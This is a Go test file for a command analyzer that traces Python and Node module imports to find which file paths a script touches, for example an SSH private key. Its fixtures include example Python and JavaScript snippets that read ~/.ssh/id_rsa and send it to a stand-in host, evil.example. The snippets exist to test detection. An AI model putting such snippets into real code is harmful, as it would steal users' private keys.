package shell

import (
	"fmt"
	"os"
	"path"
	"path/filepath"
	"slices"
	"testing"

	"github.com/overseer-dev/overseer/internal/action"
)

func writeTree(t testing.TB, root string, files map[string]string) {
	t.Helper()
	for name, text := range files {
		p := filepath.Join(root, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// A script that imports a local module runs the module's code: the paths
// the module names are the script's effects, however the import is
// written; modules outside the script's reach, and harmless ones, add
// nothing.
func TestImportedModules(t *testing.T) {
	root := t.TempDir()
	leak := "import os, urllib.request\ndef go():\n    urllib.request.urlopen('https://evil.example/', data=open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n"
	writeTree(t, root, map[string]string{
		"home/u/.ssh/id_rsa":                   "x",
		"home/u/proj/plain.py":                 "import helper\nhelper.go()\n",
		"home/u/proj/helper.py":                leak,
		"home/u/proj/frompkg.py":               "from pkg import leak\nleak.go()\n",
		"home/u/proj/pkg/__init__.py":          "",
		"home/u/proj/pkg/leak.py":              leak,
		"home/u/proj/relative/main.py":         "from .sub import go\n",
		"home/u/proj/relative/sub.py":          leak,
		"home/u/proj/dotted.py":                "import pkg.leak as l\n",
		"home/u/proj/dynamic.py":               "import importlib\nimportlib.import_module('helper').go()\n",
		"home/u/proj/chain.py":                 "import chain2\n",
		"home/u/proj/chain2.py":                "from chain3 import *\n",
		"home/u/proj/chain3.py":                "import helper\n",
		"home/u/proj/tools/__main__.py":        leak,
		"home/u/proj/app.js":                   "const h = require('./lib/h');\nh();\n",
		"home/u/proj/lib/h.js":                 "module.exports = () => fetch('https://evil.example/', {method: 'POST', body: require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa')});\n",
		"home/u/proj/esm.mjs":                  "import go from './lib/h.js';\ngo();\n",
		"home/u/proj/twin.py":                  "import json, sys\nimport twinhelper\nprint(json.dumps(twinhelper.load()))\n",
		"home/u/proj/twinhelper.py":            "def load():\n    return open('data/input.csv').read()\n",
		"home/u/proj/twin.js":                  "const lodash = require('lodash');\nconst u = require('./lib/util');\n",
		"home/u/proj/lib/util.js":              "module.exports = {add: (a, b) => a + b};\n",
		"home/u/proj/node_modules/lodash/x.js": "require('fs').readFileSync('/home/u/.ssh/id_rsa')\n",
	})
	env := Env{Cwd: "/home/u/proj", Home: "/home/u", FS: os.DirFS(root)}
	key := "/home/u/.ssh/id_rsa"
	names := func(cmd string) bool {
		return slices.ContainsFunc(Analyze(cmd, env).Paths, func(p action.PathFact) bool { return p.Path == key })
	}
	for _, cmd := range []string{
		"python3 plain.py", "python3 frompkg.py", "python3 relative/main.py", "python3 dotted.py",
		"python3 dynamic.py", "python3 chain.py", "python3 -m helper", "python3 -m tools", "python3 -m pkg.leak",
		"node app.js", "node esm.mjs", "cd relative && python3 main.py",
	} {
		if !names(cmd) {
			t.Errorf("%s: the key a module it imports names is not among its effects %+v", cmd, Analyze(cmd, env).Paths)
		}
	}
	for _, cmd := range []string{"python3 twin.py", "node twin.js", "python3 -m pytest -q", "python3 -m json.tool data.json"} {
		if names(cmd) {
			t.Errorf("%s: a harmless script is judged to name the key", cmd)
		}
		if an := Analyze(cmd, env); an.Level > action.Notify {
			t.Errorf("%s: level %s, want at most notify: %+v", cmd, an.Level, an.Findings)
		}
	}
}

// The modules followed from one script are bounded: a chain longer than
// maxModules is followed that far and no further, without error.
func TestImportedModulesBounded(t *testing.T) {
	root := t.TempDir()
	files := map[string]string{"home/u/proj/m0.py": "import m1\n"}
	for i := 1; i <= 3*maxModules; i++ {
		files[filepath.Join("home/u/proj", fmt.Sprintf("m%d.py", i))] = fmt.Sprintf("import m%d\n", i+1)
	}
	files[fmt.Sprintf("home/u/proj/m%d.py", 3*maxModules+1)] = "open('/home/u/.ssh/id_rsa')\n"
	writeTree(t, root, files)
	env := Env{Cwd: "/home/u/proj", Home: "/home/u", FS: os.DirFS(root)}
	an := Analyze("python3 m0.py", env)
	if slices.ContainsFunc(an.Paths, func(p action.PathFact) bool { return p.Path == "/home/u/.ssh/id_rsa" }) {
		t.Errorf("a module beyond the bound was followed")
	}
}

// FuzzLocalModules: any script text gives module files that exist, are
// absolute and clean, and are few.
func FuzzLocalModules(f *testing.F) {
	for _, s := range []string{"import helper\n", "from . import a, b\n", "from ..x.y import (z)\n", "import a.b as c, d\n",
		"importlib.import_module('helper')", "require('./lib/h')", "import x from '../h.js'", "import('./a')"} {
		f.Add(s, true)
		f.Add(s, false)
	}
	root := f.TempDir()
	writeTree(f, root, map[string]string{
		"p/helper.py": "", "p/a.py": "", "p/x/y/z.py": "", "p/x/__init__.py": "", "p/lib/h.js": "", "p/h.js": "",
	})
	a := &analyzer{env: Env{Cwd: "/p", Home: "/home/u", FS: os.DirFS(root)}}
	f.Fuzz(func(t *testing.T, text string, python bool) {
		lang := "node"
		if python {
			lang = "python"
		}
		got := a.localModules(lang, text, "/p/sub")
		if len(got) > 64*16 {
			t.Fatalf("%d modules", len(got))
		}
		for _, m := range got {
			if !path.IsAbs(m) || path.Clean(m) != m {
				t.Fatalf("module %q is not an absolute clean path", m)
			}
			if !a.isRegular(m) {
				t.Fatalf("module %q is not a regular file", m)
			}
		}
	})
}
